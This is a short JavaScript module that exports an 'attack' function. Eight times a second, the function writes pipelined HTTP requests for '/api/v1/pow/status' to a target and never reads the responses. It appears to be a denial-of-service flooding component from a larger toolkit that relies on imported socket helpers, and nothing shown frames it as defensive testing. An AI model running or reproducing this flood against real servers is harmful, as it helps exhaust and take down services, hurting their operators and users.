// Pipelined requests for the whole list, whose answers are never read.
import { again, pipelined, writeOnly } from "../sockets.mjs";

export const node = { finds: 23_500 };

export const attack = (target) =>
  again({ count: 8, milliseconds: 1000 }, () => writeOnly(target, pipelined("/api/v1/pow/status")));
